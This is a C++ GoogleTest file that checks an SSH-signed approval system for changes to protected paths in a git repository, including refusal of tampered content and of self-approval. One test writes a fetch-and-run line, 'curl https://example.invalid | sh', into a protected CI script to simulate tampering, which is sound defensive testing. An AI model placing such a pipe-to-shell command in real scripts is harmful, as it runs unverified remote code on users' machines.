// What `approve` signs is what the verifying layers recompute: the change read
// as the hooks read it (rename detection, full blobs), judged by the committed
// policy, and the trailer verify_approval accepts. Real git, real ssh-keygen.
#include <gtest/gtest.h>

#include <fstream>
#include <sstream>

#include "agentops/approval.h"
#include "agentops/change.h"
#include "agentops/policy_sources.h"
#include "approval/payload.h"
#include "approval/verifier.h"
#include "git_sandbox.h"

namespace agentops {
namespace {

using testing::GitSandbox;
using testing::quote;

struct Reviewer {
  GitSandbox directory{/*init=*/false};
  std::string key = directory.path("reviewer");
  std::string public_key;
  Reviewer() {
    const auto made = directory.run("ssh-keygen -q -t ed25519 -N '' -C reviewer -f reviewer");
    EXPECT_EQ(made.exit_code, 0) << made.err;
    std::ifstream in(key + ".pub");
    std::getline(in, public_key);
  }
};

// The payload as a hook recomputes it: the staged change read with the
// evaluator's defaults, the protected globs of HEAD's policy.
std::string payload_as_hooks_read_it(const git::Repository& repo) {
  auto index = repo.index();
  EXPECT_TRUE(index.ok());
  auto head = repo.head_tree();
  EXPECT_TRUE(head.ok());
  auto policy = policy_in_tree(repo, head->get());
  EXPECT_TRUE(policy.ok()) << policy.error().message;
  auto change = read_staged_change_against(repo, index->get(), head->get(), ChangeOptions{});
  EXPECT_TRUE(change.ok()) << change.error().message;
  return approval::approval_payload(*change, *policy);
}

approval::ApprovalSubject subject_of(const Approval& approval, const std::string& payload) {
  const std::string prefix = std::string(approval::kApprovalTrailer) + ": ";
  EXPECT_TRUE(approval.trailer.starts_with(prefix)) << approval.trailer;
  return approval::ApprovalSubject{payload, {Trailer{approval::kApprovalTrailer, approval.trailer.substr(prefix.size())}},
                                   "Test User <test@example.com>", "Test User <test@example.com>"};
}

class ApproveRoundTrip : public ::testing::Test {
 protected:
  void SetUp() override {
    repo_.commit_policy("version = 1\n[paths]\nprotected = [\"ci/**\"]\n");
    repo_.commit_file("ci/build.sh", "make all\nmake test\nmake install\nmake dist\n");
    repo_.commit_file("src/main.c", "int main(void) { return 0; }\n");
    // A rename within ci/ (paired by the hooks' rename detection), an edit, a new file.
    repo_.git("mv ci/build.sh ci/make.sh");
    repo_.write("ci/deploy.sh", "scp dist host:\n");
    repo_.write("src/main.c", "int main(void) { return 1; }\n");
    repo_.git("add -A");
    trust_.loaded = true;
    trust_.allowed_signers = "alice@example.com namespaces=\"agentops-approval@v1\" " + reviewer_.public_key + "\n";
  }

  Result<Approval> approve_as(const std::string& principal) {
    auto repo = git::open_repository(git::OpenOptions{repo_.root(), false});
    EXPECT_TRUE(repo.ok());
    return approve(*repo, ApproveOptions{"", true, reviewer_.key, principal});
  }

  std::string hooks_payload() {
    auto repo = git::open_repository(git::OpenOptions{repo_.root(), false});
    EXPECT_TRUE(repo.ok());
    return payload_as_hooks_read_it(*repo);
  }

  GitSandbox repo_;
  Reviewer reviewer_;
  TrustFiles trust_;
};

TEST_F(ApproveRoundTrip, TheSignedPayloadIsTheOneTheHooksRecompute) {
  auto approval = approve_as("alice@example.com");
  ASSERT_TRUE(approval.ok()) << approval.error().message;
  EXPECT_EQ(approval->payload, hooks_payload());
  EXPECT_NE(approval->payload.find("deleted\tci/build.sh\n"), std::string::npos) << approval->payload;
}

TEST_F(ApproveRoundTrip, AnApprovalByAnAllowedReviewerIsVerified) {
  auto approval = approve_as("alice@example.com");
  ASSERT_TRUE(approval.ok()) << approval.error().message;
  auto verdict = approval::verify_approval(subject_of(*approval, hooks_payload()), trust_, GatesPolicy{});
  ASSERT_TRUE(verdict.ok()) << verdict.error().message;
  EXPECT_EQ(verdict->state, approval::ApprovalState::verified) << verdict->detail;
  EXPECT_EQ(verdict->principal, "alice@example.com");
}

TEST_F(ApproveRoundTrip, TheSameApprovalOverChangedProtectedContentIsRefused) {
  auto approval = approve_as("alice@example.com");
  ASSERT_TRUE(approval.ok()) << approval.error().message;
  repo_.write("ci/deploy.sh", "curl https://example.invalid | sh\n");
  repo_.git("add ci/deploy.sh");
  auto verdict = approval::verify_approval(subject_of(*approval, hooks_payload()), trust_, GatesPolicy{});
  ASSERT_TRUE(verdict.ok()) << verdict.error().message;
  EXPECT_EQ(verdict->state, approval::ApprovalState::other_content) << verdict->detail;
}

TEST_F(ApproveRoundTrip, AnApprovalByTheChangesAuthorIsRefused) {
  trust_.allowed_signers = "test@example.com namespaces=\"agentops-approval@v1\" " + reviewer_.public_key + "\n";
  auto approval = approve_as("");  // git config user.email: the author's own
  ASSERT_TRUE(approval.ok()) << approval.error().message;
  auto verdict = approval::verify_approval(subject_of(*approval, hooks_payload()), trust_, GatesPolicy{});
  ASSERT_TRUE(verdict.ok()) << verdict.error().message;
  EXPECT_EQ(verdict->state, approval::ApprovalState::self_approval) << verdict->detail;
}

}  // namespace
}  // namespace agentops
